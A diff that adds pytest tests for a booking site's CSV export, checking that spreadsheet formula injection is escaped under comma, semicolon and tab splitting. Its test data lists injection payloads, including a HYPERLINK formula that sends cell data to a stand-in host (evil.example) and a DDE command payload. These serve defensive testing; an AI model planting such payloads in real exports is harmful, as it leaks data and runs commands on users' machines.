@@ -1,0 +1,72 @@
+"""The CSV file, read back as spreadsheets read it."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from flask import Flask
+
+from booking.site.csv import BYTE_ORDER_MARK, day_csv, safe_cell
+from tests.booking.site.rows import make_row
+from tests.conftest import NOW
+
+TRIGGERS = "=+-@＝＋－＠"
+ATTACKS = [
+    "=1+1",
+    "+44 7700 900123",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "＝1+1",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "harmless;=1+1",
+    'harmless"; =1+1',
+    'harmless,"=1+1',
+    "first line\n=1+1",
+    "first line\u2028=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_cell_begins_like_a_formula_however_the_file_is_split(app: Flask, attack: str, delimiter: str) -> None:
+    """A comma is what the file says; Excel in much of Europe splits at semicolons, and a careless import at tabs."""
+    with app.test_request_context():
+        text = day_csv(NOW.date(), [make_row(name=attack, notes=attack, representative=attack)])
+    for line in csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK)), delimiter=delimiter):
+        for cell in line:
+            assert not cell.strip(" \"'\t").startswith(tuple(TRIGGERS)) or cell.lstrip(' "').startswith("'"), cell
+
+
+@pytest.mark.parametrize("attack", ATTACKS[:4])
+def test_what_was_written_can_still_be_read(app: Flask, attack: str) -> None:
+    with app.test_request_context():
+        text = day_csv(NOW.date(), [make_row(name=attack)])
+    (row,) = list(csv.DictReader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK))))
+    assert row["Name"] == f"'{attack}"
+
+
+def test_ordinary_words_stay_as_they_are(app: Flask) -> None:
+    names = ["Zoë Ångström", "O'Neill, Sinéad", "王小明", 'Robert "Bobby" Tables', "Anne-Marie"]
+    with app.test_request_context():
+        text = day_csv(NOW.date(), [make_row(name=name) for name in names])
+    assert [row["Name"] for row in csv.DictReader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK)))] == names
+
+
+def test_every_appointment_is_one_line() -> None:
+    assert safe_cell("Comes late.\r\n\r\nRings first.\x00") == "Comes late. / Rings first."
+
+
+def test_the_file_says_that_it_is_utf_8_and_quotes_every_cell(app: Flask) -> None:
+    with app.test_request_context():
+        text = day_csv(NOW.date(), [make_row()])
+    assert text.startswith('\ufeff"Date","Starts"')
+    assert text.endswith('"\r\n')
